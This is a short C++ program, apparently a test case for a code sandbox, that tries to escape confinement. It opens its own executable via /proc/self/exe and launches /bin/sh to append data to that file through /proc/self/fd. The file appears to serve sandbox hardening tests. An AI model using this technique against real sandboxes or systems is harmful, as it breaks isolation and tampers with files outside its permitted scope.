// Writes to its own executable, which lies outside of the box, as soon as nobody runs it.
// Says: your server has ended with status 1
#include "attack.hpp"

int main()
{
    char script[200];
    snprintf(script, sizeof script, "echo '#' >>/proc/self/fd/%d", open("/proc/self/exe", O_RDONLY));
    execl("/bin/sh", "sh", "-c", script, nullptr); // from here on this is another program
}
